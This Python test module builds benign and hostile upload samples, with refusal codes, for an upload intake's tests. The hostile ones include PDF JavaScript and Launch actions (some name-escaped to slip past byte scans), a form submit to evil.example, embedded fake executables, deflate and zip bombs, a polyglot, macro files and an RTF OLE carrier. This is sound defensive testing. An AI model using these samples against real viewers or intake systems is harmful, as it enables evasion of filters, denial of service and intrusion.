"""Good and hostile files for tests of every upload path (and for fuzzing them).

Each builder returns the bytes of one file, built for real (pyHanko's writer, python-docx,
openpyxl, zipfile, a compound-file writer after MS-CFB), so that a refusal is for the reason
named and not for a broken sample.
:data:`HOSTILE` lists the hostile samples with the refusal code the intake gives when the path
accepts the claimed kind; a path that does not accept that kind refuses it by type instead.
"""

from __future__ import annotations

import io
import itertools
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.writer import PdfFileWriter

MEGABYTE = 1024 * 1024
N = generic.NameObject


def _page(writer: PdfFileWriter, text: bytes = b"BT /F1 12 Tf 72 720 Td (egov) Tj ET") -> None:
    font = generic.DictionaryObject(
        {N("/Type"): N("/Font"), N("/Subtype"): N("/Type1"), N("/BaseFont"): N("/Helvetica")}
    )
    content = generic.StreamObject(stream_data=text)
    page = generic.DictionaryObject(
        {
            N("/Type"): N("/Page"),
            N("/MediaBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
            N("/Resources"): generic.DictionaryObject(
                {N("/Font"): generic.DictionaryObject({N("/F1"): font})}
            ),
            N("/Contents"): writer.add_object(content),
        }
    )
    writer.insert_page(page)


def _written(writer: PdfFileWriter) -> bytes:
    """The file's bytes, the same at every call and in every time zone: no information
    dictionary (its modification date is the time of writing), and the writer's random /ID
    replaced by a fixed one of the same length (so no offset moves)."""
    writer._update_meta = lambda: None  # type: ignore[method-assign]
    out = io.BytesIO()
    writer.write(out)
    return re.sub(rb"<[0-9a-f]{32}>", b"<" + b"0" * 32 + b">", out.getvalue())


def _pdf_with(
    root_entries: dict[str, generic.PdfObject], *, in_object_stream=False, pages: int = 1
) -> bytes:
    """A PDF of ``pages`` pages (one by default) whose catalog also holds ``root_entries``
    (each as an indirect object, packed into a compressed object stream when asked)."""
    writer = PdfFileWriter(stream_xrefs=in_object_stream)
    for _ in range(pages):
        _page(writer)
    packed = writer.prepare_object_stream() if in_object_stream else None
    for key, value in root_entries.items():
        writer.root[N(key)] = writer.add_object(value, obj_stream=packed)
    writer.update_root()
    return _written(writer)


def _action(kind: str, **entries: generic.PdfObject) -> generic.DictionaryObject:
    action = generic.DictionaryObject({N("/Type"): N("/Action"), N("/S"): N(kind)})
    action.update({N(f"/{key}"): value for key, value in entries.items()})
    return action


def pdf(size: int = 0, pages: int = 1) -> bytes:
    """A plain PDF with a web link (accepted), of one page unless ``pages`` says; of exactly
    ``size`` bytes, padded with an unused stream, when ``size`` is given (and larger than the
    plain file)."""
    link = _action("/URI", URI=generic.TextStringObject("https://dichvucong.gov.vn"))
    content = _pdf_with({"/OpenAction": link}, pages=pages)
    padding = 0
    for _ in range(4):  # the stream's /Length may gain digits: converge on the exact size
        if not size or len(content) == size:
            break
        padding = max(padding + size - len(content), 0)
        filler = generic.StreamObject(stream_data=b"0" * padding)
        content = _pdf_with({"/OpenAction": link, "/Padding": filler}, pages=pages)
    return content


def pdf_javascript() -> bytes:
    script = _action("/JavaScript", JS=generic.TextStringObject("app.alert(1)"))
    return _pdf_with({"/OpenAction": script})


def pdf_javascript_hex_escaped() -> bytes:
    """``/J#61vaScript``: the same name to a parser, invisible to a byte scan."""
    placeholder = _pdf_with(
        {"/OpenAction": _action("/JQQQvaScript", JS=generic.TextStringObject("app.alert(1)"))}
    )
    return placeholder.replace(b"/JQQQvaScript", b"/J#61vaScript")


def pdf_javascript_in_object_stream() -> bytes:
    """The script action packed into a compressed object stream."""
    return _pdf_with(
        {"/OpenAction": _action("/JavaScript", JS=generic.TextStringObject("app.alert(1)"))},
        in_object_stream=True,
    )


def pdf_launch() -> bytes:
    return _pdf_with({"/OpenAction": _action("/Launch", F=generic.TextStringObject("cmd.exe"))})


def pdf_submit_form() -> bytes:
    return _pdf_with(
        {"/OpenAction": _action("/SubmitForm", F=generic.TextStringObject("https://evil.example"))}
    )


def pdf_additional_action_javascript() -> bytes:
    """A script run by the document's additional actions (on close, /AA /WC), not /OpenAction."""
    script = _action("/JavaScript", JS=generic.TextStringObject("app.launchURL('x')"))
    return _pdf_with({"/AA": generic.DictionaryObject({N("/WC"): script})})


def pdf_javascript_key_hex_escaped() -> bytes:
    """A named script in the document's name tree whose action hides both names as ``/#4A#53``
    (``/JS``) and ``/J#61v#61Script``."""
    placeholder = _pdf_with(
        {"/OpenAction": _action("/JQQQvQQScript", QQ=generic.TextStringObject("app.alert(1)"))}
    )
    return placeholder.replace(b"/JQQQvQQScript", b"/J#61v#61Script").replace(b"/QQ", b"/#4A#53")


def pdf_launch_in_later_revision() -> bytes:
    """A clean file with an incremental update that adds a launch action: the first
    revision alone is harmless, the file as a viewer opens it is not."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    out = io.BytesIO(pdf())
    writer = IncrementalPdfFileWriter(out)
    launch = _action("/Launch", F=generic.TextStringObject("cmd.exe"))
    writer.root[N("/OpenAction")] = writer.add_object(launch)
    writer.update_root()
    writer._update_meta = lambda: None  # type: ignore[method-assign]
    writer.write_in_place()
    return re.sub(rb"<[0-9a-f]{32}>", b"<" + b"0" * 32 + b">", out.getvalue())


def pdf_uri_javascript() -> bytes:
    return _pdf_with(
        {"/OpenAction": _action("/URI", URI=generic.TextStringObject("javascript:alert(1)"))}
    )


def pdf_uri_file() -> bytes:
    return _pdf_with(
        {"/OpenAction": _action("/URI", URI=generic.TextStringObject("file:///C:/x.exe"))}
    )


def pdf_embedded_file() -> bytes:
    payload = generic.StreamObject(
        {N("/Type"): N("/EmbeddedFile")}, stream_data=b"MZ\x90\x00 payload"
    )
    spec = generic.DictionaryObject(
        {
            N("/Type"): N("/Filespec"),
            N("/F"): generic.TextStringObject("a.exe"),
            N("/EF"): generic.DictionaryObject({N("/F"): payload}),
        }
    )
    names = generic.DictionaryObject(
        {N("/Names"): generic.ArrayObject([generic.TextStringObject("a.exe"), spec])}
    )
    return _pdf_with({"/Names": generic.DictionaryObject({N("/EmbeddedFiles"): names})})


@cache
def pdf_deflate_bomb(decoded_megabytes: int = 300) -> bytes:
    """A page whose content stream inflates from a few hundred KB to ``decoded_megabytes``."""
    inflater = zlib.compressobj(9)
    zeros = b"\x00" * MEGABYTE
    packed = b"".join(inflater.compress(zeros) for _ in range(decoded_megabytes))
    packed += inflater.flush()
    writer = PdfFileWriter(stream_xrefs=False)
    _page(writer)
    bomb = generic.StreamObject({N("/Filter"): N("/FlateDecode")}, encoded_data=packed)
    writer.root[N("/Bomb")] = writer.add_object(bomb)
    writer.update_root()
    return _written(writer)


def pdf_stacked_filters() -> bytes:
    """A stream compressed twice: each layer multiplies what the other inflates to."""
    inner = zlib.compress(b"\x00" * MEGABYTE, 9)
    writer = PdfFileWriter(stream_xrefs=False)
    _page(writer)
    filters = generic.ArrayObject([N("/FlateDecode"), N("/FlateDecode")])
    twice = generic.StreamObject({N("/Filter"): filters}, encoded_data=zlib.compress(inner, 9))
    writer.root[N("/Twice")] = writer.add_object(twice)
    writer.update_root()
    return _written(writer)


def html_pdf_polyglot() -> bytes:
    """An HTML page that PDF viewers also open (they look for ``%PDF`` in the first KB)."""
    return b"<html><body><script>alert(document.cookie)</script></body></html>\n" + pdf()


def renamed_executable() -> bytes:
    """A Windows program (``MZ`` header, ``PE`` signature) named as a document."""
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"PE\x00\x00"


def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


def png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), (30, 30, 200)).save(out, "PNG")
    return out.getvalue()


def docx(*, extra: dict[str, bytes] | None = None) -> bytes:
    import docx as python_docx

    out = io.BytesIO()
    document = python_docx.Document()
    document.add_paragraph("Báo cáo kết quả")
    document.save(out)
    return _with_entries(out.getvalue(), extra or {})


def xlsx(rows: list[list[object]] | None = None) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows or [["code", "name"], ["1", "Nhiệm vụ"]]:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def odt() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
        archive.writestr("content.xml", f'<office:document-content xmlns:office="{office}"/>')
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
    return out.getvalue()


def ods() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            "mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED
        )
        office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
        archive.writestr("content.xml", f'<office:document-content xmlns:office="{office}"/>')
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
    return out.getvalue()


CFB_END, CFB_FREE, CFB_FAT, CFB_NONE = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def compound_file(
    streams: dict[str, bytes], storages: dict[str, dict[str, bytes]] | None = None
) -> bytes:
    """An OLE2 compound file (MS-CFB version 3, 512-byte sectors) holding ``streams`` at its
    root and ``storages`` of streams: the container of Word 97 and Excel 97 files. Each stream
    is padded to the 4096-byte cutoff so that it lives in regular sectors (no mini stream)."""
    entries: list[tuple[str, int, bytes]] = []  # name, type (1 storage, 2 stream), data
    children: dict[int, list[int]] = {0: []}
    for name, data in streams.items():
        children[0].append(len(entries) + 1)
        entries.append((name, 2, data.ljust(4096, b"\x00")))
    for name, inner in (storages or {}).items():
        index = len(entries) + 1
        children[0].append(index)
        entries.append((name, 1, b""))
        children[index] = []
        for inner_name, data in inner.items():
            children[index].append(len(entries) + 1)
            entries.append((inner_name, 2, data.ljust(4096, b"\x00")))
    directory_sectors = (len(entries) + 1 + 3) // 4
    fat = [CFB_FAT]
    fat += [*range(2, 1 + directory_sectors), CFB_END]
    starts: list[int] = []
    body = b""
    for _name, kind, data in entries:
        if kind == 1:
            starts.append(CFB_END)
            continue
        first = len(fat)
        count = len(data) // 512
        starts.append(first)
        fat += [*range(first + 1, first + count), CFB_END]
        body += data
    if len(fat) > 128:
        raise ValueError("one FAT sector only")
    fat += [CFB_FREE] * (128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded, len(encoded), kind, 1, CFB_NONE, right, child, b"", 0, 0, 0, start, size,
        )  # fmt: skip

    siblings: dict[int, int] = {}
    for items in children.values():
        siblings |= dict(itertools.pairwise(items))
    first_child = {parent: items[0] for parent, items in children.items() if items}
    records = [entry("Root Entry", 5, first_child.get(0, CFB_NONE), CFB_NONE, CFB_END, 0)]
    for index, (name, kind, data) in enumerate(entries, start=1):
        records.append(
            entry(
                name,
                kind,
                first_child.get(index, CFB_NONE),
                siblings.get(index, CFB_NONE),
                starts[index - 1],
                len(data),
            )
        )
    blank = struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, *(CFB_NONE,) * 3, b"", 0, 0, 0, 0, 0)
    directory = b"".join(records + [blank] * (directory_sectors * 4 - len(records)))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE, 9, 6, b"",
        0, 1, 1, 0, 4096, CFB_END, 0, CFB_END, 0,
    )  # fmt: skip
    header += struct.pack("<I", 0) + struct.pack("<I", CFB_FREE) * 108
    return header + struct.pack("<128I", *fat) + directory + body


def doc() -> bytes:
    """A Word 97 document's container: a ``WordDocument`` stream and a table stream."""
    return compound_file({"WordDocument": b"\xec\xa5\xc1\x00 FIB", "1Table": b"table"})


def xls() -> bytes:
    """An Excel 97 workbook's container: its ``Workbook`` stream (a BOF record first)."""
    return compound_file({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00"})


def doc_with_macros() -> bytes:
    return compound_file(
        {"WordDocument": b"\xec\xa5\xc1\x00 FIB", "1Table": b"table"},
        {"Macros": {"PROJECT": b'ID="{00000000}"\r\nDocument=ThisDocument/&H00000000'}},
    )


def xls_with_embedded_object() -> bytes:
    return compound_file(
        {"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00"},
        {"MBD0001A2B3": {"\x01Ole10Native": b"MZ\x90\x00 payload"}},
    )


def ole_named_doc() -> bytes:
    """A compound file that is neither Word nor Excel (an MSI installer is one, too)."""
    return compound_file({"SummaryInformation": b"\x00" * 8})


def rtf() -> bytes:
    return b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0 T\\'f4 khai\\par}"


def rtf_with_object() -> bytes:
    """An RTF file embedding an OLE object (the carrier of CVE-2017-11882)."""
    return (
        b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Equation.3}"
        b"{\\*\\objdata 0105000002000000}}\\par}"
    )


def csv() -> bytes:
    return "code,name\n1,Nhiệm vụ\n".encode()


def _with_entries(archive_bytes: bytes, extra: dict[str, bytes]) -> bytes:
    if not extra:
        return archive_bytes
    out = io.BytesIO(archive_bytes)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, data in extra.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_named_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme.txt", "not a Word document")
    return out.getvalue()


def docx_misplaced_directory() -> bytes:
    """A Word archive whose end record puts the central directory a megabyte further than it
    is: Python's zipfile then seeks before the start of the file (``ValueError``, not
    ``BadZipFile``; found by fuzzing the intake)."""
    content = bytearray(docx())
    end = content.rfind(b"PK\x05\x06")
    offset = struct.unpack_from("<I", content, end + 16)[0]
    struct.pack_into("<I", content, end + 16, offset + MEGABYTE)
    return bytes(content)


def docx_with_macros() -> bytes:
    return docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro project"})


@cache
def xlsx_zip_bomb(unpacked_megabytes: int = 20) -> bytes:
    """A workbook one of whose parts inflates a thousandfold."""
    out = io.BytesIO(xlsx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet2.xml", b"\x00" * (unpacked_megabytes * MEGABYTE))
    return out.getvalue()


def empty() -> bytes:
    return b""


def oversize(limit: int) -> bytes:
    """A valid PDF of ``limit`` + 1 bytes."""
    return pdf(size=limit + 1)


@dataclass(frozen=True)
class Hostile:
    """One hostile sample: its id, the name a user would give it, the builder, the refusal
    code when the path accepts the kind the name claims."""

    id: str
    filename: str
    build: Callable[[], bytes]
    code: str


HOSTILE = (
    Hostile("renamed_executable", "don.pdf", renamed_executable, "file_type_refused"),
    Hostile("html_pdf_polyglot", "don.pdf", html_pdf_polyglot, "file_type_refused"),
    Hostile("pdf_javascript", "don.pdf", pdf_javascript, "file_active_content"),
    Hostile("pdf_javascript_hex", "don.pdf", pdf_javascript_hex_escaped, "file_active_content"),
    Hostile(
        "pdf_javascript_objstm", "don.pdf", pdf_javascript_in_object_stream, "file_active_content"
    ),
    Hostile("pdf_launch", "don.pdf", pdf_launch, "file_active_content"),
    Hostile(
        "pdf_launch_later_revision", "don.pdf", pdf_launch_in_later_revision, "file_active_content"
    ),
    Hostile(
        "pdf_additional_action_js",
        "don.pdf",
        pdf_additional_action_javascript,
        "file_active_content",
    ),
    Hostile(
        "pdf_javascript_key_hex", "don.pdf", pdf_javascript_key_hex_escaped, "file_active_content"
    ),
    Hostile("pdf_uri_javascript", "don.pdf", pdf_uri_javascript, "file_active_content"),
    Hostile("pdf_submit_form", "don.pdf", pdf_submit_form, "file_active_content"),
    Hostile("pdf_uri_file", "don.pdf", pdf_uri_file, "file_active_content"),
    Hostile("pdf_embedded_file", "don.pdf", pdf_embedded_file, "file_active_content"),
    Hostile("pdf_deflate_bomb", "don.pdf", pdf_deflate_bomb, "file_bomb"),
    Hostile("pdf_stacked_filters", "don.pdf", pdf_stacked_filters, "file_bomb"),
    Hostile("zip_named_docx", "bao-cao.docx", zip_named_docx, "file_type_refused"),
    Hostile("docx_with_macros", "bao-cao.docx", docx_with_macros, "file_macros"),
    Hostile("docx_misplaced_directory", "bao-cao.docx", docx_misplaced_directory, "file_damaged"),
    Hostile("xlsx_zip_bomb", "bang.xlsx", xlsx_zip_bomb, "file_bomb"),
    Hostile("doc_with_macros", "mau.doc", doc_with_macros, "file_macros"),
    Hostile(
        "xls_with_embedded_object", "mau.xls", xls_with_embedded_object, "file_embedded_object"
    ),
    Hostile("ole_named_doc", "mau.doc", ole_named_doc, "file_type_refused"),
    Hostile("rtf_with_object", "mau.rtf", rtf_with_object, "file_embedded_object"),
    Hostile("empty", "don.pdf", empty, "file_empty"),
)
